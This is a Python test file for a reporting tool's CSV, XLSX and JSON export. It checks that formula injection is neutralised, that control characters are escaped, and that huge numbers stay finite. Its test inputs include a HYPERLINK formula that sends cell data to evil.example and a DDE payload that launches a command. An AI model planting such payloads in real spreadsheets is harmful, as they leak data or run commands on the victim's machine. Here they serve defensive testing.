"""Round two of hostile inputs, in what jianyian writes: spreadsheets and JSON.

Report text is data in every format: never a formula in a spreadsheet, never a raw
control character, never a non-finite number in JSON (issue 13, items 1, 9, 10).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from openpyxl import load_workbook

from jianyian.cli import app
from jianyian.render.tables import (
    FORMULA_LEADS,
    clean_cell_text,
    render_csv,
    safe_cell_text,
)
from jianyian.views.ledger import Column

from ..conftest import REAL_TARGETS, monthly, runner

EVIL_NOTES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def _quote(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def _project(make_project, notes: list[str]) -> Path:
    # One note per month: jxj reports ai-models from May on.
    reports = {}
    for i, note in enumerate(notes):
        month = f"2025-{5 + i:02d}"
        reports[f"jxj/{month}.yaml"] = (
            monthly("jxj", month, f"ai-models: {{value: {i + 1}, note: {_quote(note)}}}")
            + f"submitted: {month}-28\n"
        )
    return make_project(reports)


def _export(root: Path, *args: str):
    return runner.invoke(app, ["export", "--root", str(root), "--as-of", "2025-10-31", *args])


def test_csv_neutralises_formula_leading_text(make_project, tmp_path):
    root = _project(make_project, EVIL_NOTES)
    r = _export(root, "-o", str(tmp_path / "ledger.csv"))
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO((tmp_path / "ledger.csv").read_text("utf-8-sig"))))
    notes = [row[-1] for row in rows[1:] if row[2] == "ai-models" and row[-1]]
    assert sorted(notes) == sorted("'" + n for n in EVIL_NOTES)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_LEADS) or _is_number(cell), cell


def _is_number(cell: str) -> bool:
    try:
        float(cell.rstrip("%"))
    except ValueError:
        return False
    return True


def test_xlsx_keeps_text_as_text(make_project, tmp_path):
    root = _project(make_project, EVIL_NOTES)
    out = tmp_path / "ledger.xlsx"
    r = _export(root, "-o", str(out))
    assert r.exit_code == 0, r.output
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    ws = load_workbook(out)["台账"]
    found = []
    for row in ws.iter_rows(min_row=2):
        cell = row[-1]
        if cell.value is not None:
            assert cell.data_type == "s", (cell.value, cell.data_type)
            found.append(cell.value)
    # The text itself, exactly: a string cell needs no quote to stay text.
    assert sorted(found) == sorted(EVIL_NOTES)


@dataclass
class _Row:
    text: str | None
    value: float | None


def test_numbers_stay_numbers_and_controls_are_escaped():
    columns = (Column("文本", "text", "text"), Column("数值", "value", "number"))
    data = render_csv(columns, [_Row("-5", -5), _Row("a\x07b\x1b[2J\x00", -0.5)])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'-5", "-5"]
    assert rows[2] == ["a\\x07b\\x1b[2J\\x00", "-0.5"]
    assert clean_cell_text("行一\n行二\t") == "行一\n行二\t"
    # A CR is escaped, so it cannot hide a formula behind it; a tab is kept and neutralised.
    assert safe_cell_text("\r=1") == "\\r=1"
    assert safe_cell_text("\t=1") == "'\t=1"
    assert safe_cell_text("普通文本") == "普通文本"


def test_xlsx_survives_control_characters_in_any_text(tmp_path):
    """Validation refuses controls in reports; the renderer must not crash on them anyway."""
    from openpyxl import Workbook

    from jianyian.render.tables import set_text_cell

    wb = Workbook()
    cell = set_text_cell(wb.active, 1, 1, "=A1\x07\x00\x9b")
    assert cell.data_type == "s" and cell.value == "=A1\\x07\\x00\\x9b"
    wb.save(tmp_path / "x.xlsx")
    assert load_workbook(tmp_path / "x.xlsx").active["A1"].value == "=A1\\x07\\x00\\x9b"


# ---------------------------------------------------------------- huge numbers (item 9)

TINY_TARGET = "target: 20, measure: 个"


def _strict_json(text: str):
    def refuse(name: str):
        raise AssertionError(f"non-standard JSON constant {name}")

    return json.loads(text, parse_constant=refuse)


@pytest.mark.parametrize("value", ["1e308", "1.0e+16", "-1e300", "100000000000000000000000"])
def test_huge_value_is_a_located_error(make_project, value):
    root = make_project({"jxj/2025-07.yaml": monthly("jxj", "2025-07", f"ai-models: {value}")})
    r = runner.invoke(app, ["validate", "--root", str(root)])
    assert r.exit_code == 1, r.output
    line = next(x for x in r.output.splitlines() if x.startswith("data/reports/"))
    assert line.startswith("data/reports/jxj/2025-07.yaml:3:")
    assert "数值过大" in line and line.endswith("[JY013]")


def test_largest_values_add_up_without_overflow(make_project, tmp_path):
    """Five parts at the bound, a target near zero: JSON stays standard, nothing crashes."""
    targets = REAL_TARGETS.read_text("utf-8")
    targets = targets.replace("target: 8500, measure: 亿元", "target: 1e-300, measure: 亿元")
    assert "1e-300" in targets
    parts = ", ".join(
        f"{p}: 1000000000000000"
        for p in ("optoelectronics", "health", "automotive", "equipment", "beidou")
    )
    root = make_project(
        {"fgw/2025-07.yaml": monthly("fgw", "2025-07", parts, "submitted: 2025-08-01\n")},
        targets,
    )
    for args in (["status", "--json"], ["status"], ["status", "--unit", "fgw"]):
        r = runner.invoke(app, [*args, "--root", str(root), "--as-of", "2025-08-10"])
        assert r.exit_code == 0, (args, r.output)
        assert "inf" not in r.stdout.lower().replace("info", ""), args
    view = _strict_json(
        runner.invoke(
            app, ["status", "--json", "--root", str(root), "--as-of", "2025-08-10"]
        ).stdout
    )
    total = next(i for i in view["indicators"] if i["id"] == "industries-total")
    assert total["value"] == 5e15
    r = _export(root, "-o", str(tmp_path / "l.xlsx"))
    assert r.exit_code == 0, r.output
    r = _export(root, "-o", str(tmp_path / "l.csv"))
    assert r.exit_code == 0, r.output
    assert "inf" not in (tmp_path / "l.csv").read_text("utf-8-sig").lower().replace("info", "")
